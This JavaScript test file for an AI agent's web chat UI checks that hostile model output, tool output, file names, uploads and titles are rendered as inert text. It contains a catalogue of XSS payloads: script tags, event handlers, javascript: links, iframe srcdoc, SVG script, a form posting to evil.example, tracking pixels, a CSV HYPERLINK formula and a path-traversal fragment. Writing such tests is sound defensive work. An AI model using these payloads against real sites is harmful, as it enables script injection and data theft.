// The web UI in Chromium against hostile content: what a model says, what
// tools print, what files are named and what they hold, all written by an
// attacker — script tags, event handlers, javascript: and data: links,
// remote images, frames, forms, SVG with script. No script may run (no
// dialog, window.__pwned never set, in the page or any frame), no request
// may leave the origin, and the text must still be shown, as text.
import assert from 'node:assert/strict';
import { after, before, describe, it } from './lib/test.mjs';

import { FawnServer, client, request, setupAdmin } from './lib/server.mjs';
import { FakeOpenAI, call, fail, reply } from './lib/fake_openai.mjs';
import { assertClean, launch, openPage, runEnded, screenshot, sendMessage, signInBrowser, threadIdOf } from './lib/browser.mjs';

const OUT = '/mnt/user-data/outputs';
const EVIL = 'https://evil.example';

// Markdown a model (or a file) might carry to run script or leak data.
const HOSTILE_MD = [
  '# Report <script>window.__pwned = "script"</script>',
  '<img src="x" onerror="window.__pwned = \'onerror\'">',
  `<img src="${EVIL}/track.png"> ![tracker](${EVIL}/pixel.gif)`,
  '[click me](javascript:window.__pwned=\'js-link\') [data link](data:text/html,<script>alert(1)</script>)',
  '<a href="vbscript:msgbox(1)">vb</a> <a href="JaVaScRiPt:alert(1)">mixed case</a>',
  `<a href="${EVIL}/ok" onclick="window.__pwned='onclick'">a plain link</a>`,
  `<iframe src="${EVIL}/"></iframe><iframe srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe>`,
  `<form action="${EVIL}/steal"><input name="q"><button>go</button></form>`,
  '<svg onload="window.__pwned=\'svg-onload\'"><script>window.__pwned="svg-script"</script></svg>',
  `<style>body { background: url(${EVIL}/css.png) }</style>`,
  `<object data="${EVIL}/x.swf"></object><embed src="${EVIL}/y">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/"><base href="${EVIL}/">`,
  '<details open ontoggle="window.__pwned=\'ontoggle\'"><summary>s</summary>d</details>',
  '<math><mi xlink:href="javascript:alert(1)">m</mi></math>',
].join('\n\n');

const HOSTILE_HTML = `<!doctype html><h1 id="h">hostile page</h1>
<script>window.__pwned = 'html-script'; parent.__pwned = 'html-parent'</script>
<img src="${EVIL}/x.png"><img src="x" onerror="parent.__pwned='html-onerror'">
<a id="a" href="javascript:parent.__pwned='html-js'">x</a>
<form action="${EVIL}/f"><button>go</button></form>
<meta http-equiv="refresh" content="0;url=${EVIL}/">
<link rel="stylesheet" href="${EVIL}/s.css"><iframe src="${EVIL}/i"></iframe>`;

const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="parent.__pwned='svg-file-onload'">
<script>parent.__pwned = 'svg-file-script'</script>
<image href="${EVIL}/y.png" width="10" height="10"/><circle cx="5" cy="5" r="4"/>
<a xlink:href="javascript:parent.__pwned='svg-js'"><text y="20">t</text></a></svg>`;

const HOSTILE_NAMES = ['<img src=x onerror=window.__pwned=1>.md', '"><svg onload=window.__pwned=2>.html', 'javascript:alert(1).svg'];
// A browser sends '"' in an upload's name as %22 (HTML's multipart rules),
// so upload names use ' instead.
const UPLOAD_NAMES = HOSTILE_NAMES.map((n) => n.replaceAll('"', "'"));
const TAG_TEXT = '<img src=x onerror="window.__pwned=\'human\'">';

/** Elements sanitized Markdown must never hold, and attributes no element may carry. */
async function assertSanitized(page) {
  const found = await page.evaluate(() => {
    const bad = [...document.querySelectorAll('.md script, .md iframe, .md form, .md input, .md style, .md svg, .md object, .md embed, .md meta, .md base, .md math, .md details')]
      .map((e) => e.tagName);
    for (const el of document.querySelectorAll('*')) {
      for (const a of el.attributes) if (/^on/i.test(a.name)) bad.push(`${el.tagName}[${a.name}]`);
    }
    for (const a of document.querySelectorAll('a[href]')) {
      const u = new URL(a.getAttribute('href'), location.href);
      if (!['http:', 'https:', 'mailto:'].includes(u.protocol)) bad.push(`a[href=${a.getAttribute('href')}]`);
      if (u.origin !== location.origin && a.rel !== 'noopener noreferrer') bad.push(`a[rel=${a.rel}]`);
    }
    for (const img of document.querySelectorAll('img[src]')) {
      if (new URL(img.getAttribute('src'), location.href).origin !== location.origin) bad.push(`img[src=${img.src}]`);
    }
    return bad;
  });
  assert.deepEqual(found, []);
}

describe('web UI: hostile content', () => {
  let srv;
  let fake;
  let browser;
  let admin;

  before(async () => {
    fake = await FakeOpenAI.start();
    srv = await FawnServer.start({ models: [fake.model('fake')] });
    admin = await setupAdmin(srv);
    browser = await launch();
  });
  after(async () => {
    await browser?.close();
    await srv?.stop();
    await fake?.stop();
  });

  it('shows a hostile model, tool output, file names and clarification as text, running nothing and loading nothing from elsewhere', async () => {
    const { page, watch, context } = await openPage(browser, srv);
    await signInBrowser(page);
    const files = [
      call('write_file', { description: '<b onmouseover="window.__pwned=1">desc</b>', path: `${OUT}/${HOSTILE_NAMES[0]}`, content: HOSTILE_MD }),
      call('write_file', { description: 'page', path: `${OUT}/${HOSTILE_NAMES[1]}`, content: HOSTILE_HTML }),
      call('write_file', { description: 'svg', path: `${OUT}/${HOSTILE_NAMES[2]}`, content: HOSTILE_SVG }),
      call('write_file', { description: 'csv', path: `${OUT}/cells.csv`, content: `h,<script>window.__pwned=1</script>\n=HYPERLINK("${EVIL}"),<img src=x onerror=window.__pwned=1>\n` }),
      call('bash', { description: 'print tags', command: 'echo "<script>window.__pwned=\'tool\'</script><img src=x onerror=window.__pwned=1>"' }),
      call('<img src=x onerror=window.__pwned=\'toolname\'>', { x: '<script>' }),
    ];
    fake.queue(
      reply(HOSTILE_MD, files),
      reply('', [call('present_files', { filepaths: [...HOSTILE_NAMES, 'cells.csv'].map((n) => `${OUT}/${n}`) })]),
      reply(`See [the report](${OUT}/${encodeURIComponent(HOSTILE_NAMES[0])}).`, [call('ask_clarification', {
        question: '<script>window.__pwned="question"</script>Which?',
        context: '<img src=x onerror=window.__pwned="context">',
        options: ['<b onclick=window.__pwned=1>bold</b>', `[x](javascript:window.__pwned='opt')`],
      })]),
    );
    await sendMessage(page, TAG_TEXT);
    const id = await threadIdOf(page);
    const question = page.getByRole('group', { name: 'Question from the agent' });
    await question.getByText('<script>window.__pwned="question"</script>Which?').waitFor();
    await runEnded(page);

    // Shown, as text.
    await page.locator('.msg.human .bubble', { hasText: TAG_TEXT }).waitFor();
    await page.locator('.thread-title', { hasText: TAG_TEXT }).waitFor();
    assert.equal(await page.locator('.chat-title').textContent(), TAG_TEXT);
    await question.getByRole('button', { name: '<b onclick=window.__pwned=1>bold</b>' }).waitFor();
    await page.locator('.msg.ai .md', { hasText: 'a plain link' }).first().waitFor();
    const link = page.locator('.msg.ai .md a', { hasText: 'a plain link' }).first();
    assert.equal(await link.getAttribute('href'), `${EVIL}/ok`);
    assert.equal(await link.getAttribute('rel'), 'noopener noreferrer');
    assert.equal(await link.getAttribute('target'), '_blank');
    assert.equal(await page.locator('.msg.ai .md a', { hasText: 'click me' }).getAttribute('href'), null);
    assert.match(await page.locator('.msg.ai .md a', { hasText: 'the report' }).getAttribute('href'), new RegExp(`^/api/threads/${id}/artifacts/mnt/user-data/outputs/`));
    const bash = page.locator('.tool', { hasText: 'print tags' });
    await bash.locator('summary').click();
    assert.match(await bash.locator('pre.output').textContent(), /<script>window\.__pwned='tool'<\/script><img src=x onerror=window\.__pwned=1>/);
    await page.locator('.tool-name', { hasText: '<img src=x onerror=window.__pwned=\'toolname\'>' }).waitFor();
    await page.locator('.tool-summary', { hasText: '<b onmouseover="window.__pwned=1">desc</b>' }).waitFor();
    await assertSanitized(page);

    // The files: listed by name as text, each previewed.
    await page.getByRole('button', { name: /^Files/ }).click();
    const panel = page.getByRole('complementary', { name: 'Files' });
    for (const name of HOSTILE_NAMES) await panel.locator('.filename', { hasText: name }).waitFor();
    await panel.getByRole('button', { name: HOSTILE_NAMES[0] }).click();
    await panel.locator('.preview-body .md h1', { hasText: 'Report' }).waitFor();
    await assertSanitized(page);
    await panel.getByRole('button', { name: 'Back to the file list' }).click();
    for (const name of HOSTILE_NAMES.slice(1)) {
      await panel.getByRole('button', { name }).click();
      const frame = panel.locator('iframe.frame-preview');
      await frame.waitFor();
      assert.equal(await frame.getAttribute('sandbox'), '');
      await page.frameLocator('.files-panel iframe.frame-preview').locator(name.endsWith('.html') ? '#h' : 'circle').waitFor();
      await assertClean(page, watch);
      await panel.getByRole('button', { name: 'Back to the file list' }).click();
    }
    await panel.getByRole('button', { name: 'cells.csv' }).click();
    await panel.locator('table.csv td', { hasText: '<img src=x onerror=window.__pwned=1>' }).waitFor();
    await screenshot(page, 'hostile');
    await assertSanitized(page);

    // Opened on their own, the files cannot run as the application.
    for (const name of HOSTILE_NAMES.slice(1)) {
      const res = await page.request.get(`/api/threads/${id}/artifacts/mnt/user-data/outputs/${encodeURIComponent(name)}`);
      assert.equal(res.status(), 200);
      assert.equal(res.headers()['content-security-policy'], 'sandbox');
      assert.match(res.headers()['content-disposition'], /^attachment;/);
    }
    await assertClean(page, watch);
    await context.close();
  });

  it('shows hostile upload names, model errors and thread titles as text', async () => {
    const { page, watch, context } = await openPage(browser, srv);
    await signInBrowser(page);
    await page.locator('.composer input[type=file]').setInputFiles(UPLOAD_NAMES.map((name) => ({ name, mimeType: 'text/plain', buffer: Buffer.from(HOSTILE_HTML) })));
    for (const name of UPLOAD_NAMES) await page.locator('.attachments .chip', { hasText: name }).waitFor();
    const id = await threadIdOf(page);
    const listed = await request(srv, 'GET', `/api/threads/${id}/uploads/list`, { bearer: admin.token });
    assert.deepEqual(listed.json.files.map((f) => f.filename).sort(), [...UPLOAD_NAMES].sort());

    fake.queue(fail(503, { message: '<img src=x onerror=window.__pwned="retry">' }), fail(400, { message: '<svg onload=window.__pwned="error">' }));
    await sendMessage(page, 'fail please');
    await page.locator('.note.retry', { hasText: '<img src=x onerror=window.__pwned="retry">' }).waitFor();
    await page.locator('.note.error', { hasText: '<svg onload=window.__pwned="error">' }).waitFor();
    await runEnded(page);

    const api = client(srv, { bearer: admin.token });
    const title = '<script>window.__pwned="title"</script><img src=x onerror=window.__pwned="title">';
    assert.equal((await api.post(`/api/threads/${id}/state`, { values: { title } })).status, 200);
    assert.equal((await api.patch(`/api/threads/${id}`, { metadata: { title } })).status, 200);
    await page.reload();
    await page.locator('.thread-title', { hasText: title }).waitFor();
    await page.locator('.chat-title', { hasText: title }).waitFor();
    await page.getByRole('button', { name: /^Files/ }).click();
    for (const name of UPLOAD_NAMES) await page.locator('.files-panel .filename', { hasText: name }).waitFor();

    // A hostile fragment is no thread id.
    await page.goto(`/#/t/${encodeURIComponent('<img src=x onerror=window.__pwned=1>')}`);
    await page.getByRole('heading', { name: 'Not found' }).waitFor();
    await page.goto('/#/t/..%2F..%2Fapi');
    await page.getByRole('heading', { name: 'Not found' }).waitFor();
    await assertSanitized(page);
    await assertClean(page, watch);
    await context.close();
  });
});
